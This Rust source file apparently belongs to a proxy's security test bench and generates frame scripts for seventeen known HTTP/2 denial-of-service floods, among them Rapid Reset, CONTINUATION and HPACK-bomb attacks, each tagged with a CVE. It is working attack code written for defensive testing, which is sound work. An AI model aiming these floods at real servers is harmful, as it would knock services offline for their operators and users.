//! What an attacking connection sends: the floods of HTTP/2 that took other proxies down, each as a script of bounded length.

use clap::ValueEnum;
use meshring_core::http::http2::hpack::{encode, encode_integer};

use super::super::site::{ATTACKED, NORMAL};
use crate::http2::PREFACE;
use crate::http2::frame::{flag, kind, write_frame};

/// A flood, by what is sent too much of.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum Flood {
    /// Requests that are taken back at once (CVE-2023-44487)
    RapidReset,
    /// Requests that the proxy has to reset, by window updates of 0 (CVE-2025-8671, MadeYouReset)
    MadeYouReset,
    /// Requests that are malformed (CVE-2019-9514)
    BadRequests,
    /// A header section that goes on and on (CVE-2024-27316, RUSTSEC-2024-0332)
    Continuation,
    /// Likewise, of empty frames (CVE-2019-9518)
    EmptyContinuation,
    /// DATA without data (CVE-2019-9518, RUSTSEC-2026-0258)
    EmptyData,
    /// SETTINGS that have to be acknowledged (CVE-2019-9515)
    Settings,
    /// PING that has to be answered (CVE-2019-9512)
    Ping,
    /// Priorities of ever other streams (CVE-2019-9513)
    Priority,
    /// Windows of the connection that are opened byte by byte
    WindowUpdates,
    /// A response that is taken byte by byte (CVE-2019-9511)
    Dribble,
    /// Responses for which there is no window (CVE-2026-73550)
    ZeroWindow,
    /// Responses for which there is a window, and nobody reads (CVE-2019-9517)
    Unread,
    /// An entry of the header table that is named again and again (CVE-2026-47774)
    HpackBomb,
    /// Cookies of which each takes a byte (CVE-2026-49975)
    CookieCrumbs,
    /// Fields without a name (CVE-2019-9516)
    EmptyFields,
    /// Connections that end with all their requests (CVE-2021-32778)
    MassClose,
}

/// How the connection of an attacker is meant to end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Meant {
    /// The proxy ends it.
    Ended,
    /// It is put up with, as each request is refused, or costs what any other does.
    PutUpWith,
    /// It stalls, and costs what a stalled peer may.
    Stalled,
}

/// SETTINGS_INITIAL_WINDOW_SIZE.
const INITIAL_WINDOW_SIZE: u16 = 4;
/// PRIORITY and what RST_STREAM says, which the rest of the bench has no use for.
const PRIORITY: u8 = 2;
const CANCEL: u32 = 8;
/// Frames of a few bytes that go into one write.
const BATCH: usize = 100;
/// A PING behind a script: its answer says that the connection is of use still.
pub(super) const STILL_ON: &[u8; 8] = b"still on";

impl Flood {
    pub(super) fn meant(self) -> Meant {
        match self {
            Self::ZeroWindow | Self::Unread => Meant::Stalled,
            Self::MassClose => Meant::PutUpWith,
            _ => Meant::Ended,
        }
    }

    /// Whether the attacker takes what the proxy sends.
    pub(super) fn reads(self) -> bool {
        self != Self::Unread
    }

    /// Whether only the first round is sent before a response has begun: all of what comes after it would be there before that, and be taken
    /// for one large step.
    pub(super) fn waits_for_response(self) -> bool {
        self == Self::Dribble
    }

    /// How many times [`write`](Self::write) is called: more than a proxy with bounds lets through.
    pub(super) fn rounds(self) -> u32 {
        match self {
            Self::RapidReset | Self::MadeYouReset | Self::BadRequests => 10_000,
            Self::Continuation => 500,
            Self::EmptyContinuation | Self::EmptyData | Self::Settings | Self::Ping | Self::Priority => 1_000,
            Self::WindowUpdates => 1_000,
            Self::Dribble => 11_000,
            Self::ZeroWindow | Self::Unread | Self::MassClose => 100,
            Self::HpackBomb | Self::CookieCrumbs => 5,
            Self::EmptyFields => 50,
        }
    }

    /// Appends what the connection begins with.
    pub(super) fn write_beginning(self, out: &mut Vec<u8>) {
        let window: u32 = match self {
            Self::ZeroWindow => 0,
            Self::Dribble => 1,
            Self::Unread => i32::MAX as u32,
            _ => 65_535,
        };
        out.extend_from_slice(PREFACE);
        let [n0, n1] = INITIAL_WINDOW_SIZE.to_be_bytes();
        let [v0, v1, v2, v3] = window.to_be_bytes();
        write_frame(kind::SETTINGS, 0, 0, &[n0, n1, v0, v1, v2, v3], out);
        if self == Self::Unread {
            window_update(0, i32::MAX as u32 - 65_535, out);
        }
    }

    /// Appends what comes in this round.
    pub(super) fn write(self, round: u32, out: &mut Vec<u8>) {
        let stream = 2 * round + 1;
        match self {
            Self::RapidReset => {
                headers(stream, &get(NORMAL), true, out);
                write_frame(kind::RST_STREAM, 0, stream, &CANCEL.to_be_bytes(), out);
            }
            Self::MadeYouReset => {
                headers(stream, &post(NORMAL), false, out);
                window_update(stream, 0, out);
            }
            Self::BadRequests => headers(stream, &with(get(NORMAL), "connection", "close"), true, out),
            Self::Continuation if round == 0 => write_frame(kind::HEADERS, 0, 1, &get(NORMAL), out),
            Self::Continuation => {
                let fields = (0..100).fold(Vec::new(), |block, at| with(block, &format!("x-{at}"), &"v".repeat(100)));
                write_frame(kind::CONTINUATION, 0, 1, &fields, out);
            }
            Self::EmptyContinuation if round == 0 => write_frame(kind::HEADERS, 0, 1, &[], out),
            Self::EmptyContinuation => batch(kind::CONTINUATION, |_| (1, Vec::new()), out),
            Self::EmptyData if round == 0 => headers(1, &post(NORMAL), false, out),
            Self::EmptyData => batch(kind::DATA, |_| (1, Vec::new()), out),
            Self::Settings => batch(kind::SETTINGS, |_| (0, Vec::new()), out),
            Self::Ping => batch(kind::PING, |_| (0, b"pingping".into()), out),
            Self::Priority => batch(PRIORITY, |at| (2 * at + 1, vec![0, 0, 0, 0, round as u8]), out),
            Self::WindowUpdates => batch(kind::WINDOW_UPDATE, |_| (0, vec![0, 0, 0, 1]), out),
            Self::Dribble if round == 0 => headers(1, &get(ATTACKED), true, out),
            Self::Dribble => window_update(1, 1, out),
            Self::ZeroWindow | Self::Unread => headers(stream, &get(ATTACKED), true, out),
            Self::HpackBomb => {
                let entry = indexed("x-bomb", &"b".repeat(3_900));
                headers(stream, &[get(NORMAL), entry, vec![NEWEST; 12_000]].concat(), true, out);
            }
            Self::CookieCrumbs => {
                headers(stream, &[get(NORMAL), indexed("cookie", ""), vec![NEWEST; 15_000]].concat(), true, out);
            }
            // A literal without a name has three bytes: what it is, no name, no value.
            Self::EmptyFields => headers(stream, &[get(NORMAL), vec![0; 12_000]].concat(), true, out),
            // Others' server would be busy with connections that come and go.
            Self::MassClose => headers(stream, &post(ATTACKED), false, out),
        }
    }

    /// Appends what comes behind all rounds.
    pub(super) fn write_end(self, out: &mut Vec<u8>) {
        if self.meant() != Meant::Stalled {
            write_frame(kind::PING, 0, 0, STILL_ON, out);
        }
    }
}

/// The newest entry of the header table (RFC 7541, section 6.1).
const NEWEST: u8 = 0x80 | 62;

fn request(method: &str, authority: &str) -> Vec<u8> {
    [(":method", method), (":scheme", "http"), (":authority", authority), (":path", "/")]
        .into_iter()
        .fold(Vec::new(), |block, (name, value)| with(block, name, value))
}

fn get(authority: &str) -> Vec<u8> {
    request("GET", authority)
}

pub(in crate::hostile) fn post(authority: &str) -> Vec<u8> {
    request("POST", authority)
}

fn with(mut block: Vec<u8>, name: &str, value: &str) -> Vec<u8> {
    encode(&mut block, name.as_bytes(), value.as_bytes(), false);
    block
}

/// A field that enters the table (RFC 7541, section 6.2.1).
fn indexed(name: &str, value: &str) -> Vec<u8> {
    let mut out = vec![0x40];
    for text in [name, value] {
        encode_integer(&mut out, 0, 7, text.len());
        out.extend_from_slice(text.as_bytes());
    }
    out
}

pub(in crate::hostile) fn headers(stream: u32, block: &[u8], ends: bool, out: &mut Vec<u8>) {
    let flags = flag::END_HEADERS | if ends { flag::END_STREAM } else { 0 };
    write_frame(kind::HEADERS, flags, stream, block, out);
}

fn window_update(stream: u32, bytes: u32, out: &mut Vec<u8>) {
    write_frame(kind::WINDOW_UPDATE, 0, stream, &bytes.to_be_bytes(), out);
}

/// Many frames of one kind, each with its stream and payload.
fn batch(kind: u8, frame: impl Fn(u32) -> (u32, Vec<u8>), out: &mut Vec<u8>) {
    for at in 0..BATCH as u32 {
        let (stream, payload) = frame(at);
        write_frame(kind, 0, stream, &payload, out);
    }
}

#[cfg(test)]
mod tests {
    use meshring_core::http::http2::hpack::Decoder;

    use super::*;
    use crate::http2::frame::{FRAME_BYTES_MAX, FrameReader};

    #[test]
    fn scripts_are_whole_frames_of_legal_size_and_their_first_heads_can_be_decoded() {
        for &flood in Flood::value_variants() {
            let mut out = Vec::new();
            flood.write_beginning(&mut out);
            assert!(out.starts_with(PREFACE));
            out.drain(..PREFACE.len());
            for round in 0..3.min(flood.rounds()) {
                flood.write(round, &mut out);
            }
            flood.write_end(&mut out);
            let mut decoder = Decoder::new(4_096);
            let (mut frames, mut heads) = (0, 0);
            let mut reader = FrameReader::default();
            let read = reader.feed(&out, |frame| {
                assert!(frame.payload.len() <= FRAME_BYTES_MAX);
                frames += 1;
                if frame.kind == kind::HEADERS && !frame.payload.is_empty() {
                    heads += 1;
                    decoder.decode(frame.payload, &mut Vec::new(), 64 * 1024, |_, _, _| {})?;
                }
                Ok(())
            });
            assert!(read.is_ok() && reader.is_between(), "{flood:?}: {read:?}");
            assert!(frames > 2, "{flood:?}: {frames} frames");
            let has_heads = !matches!(
                flood,
                Flood::EmptyContinuation | Flood::Settings | Flood::Ping | Flood::Priority | Flood::WindowUpdates
            );
            assert_eq!(heads > 0, has_heads, "{flood:?}");
        }
    }
}
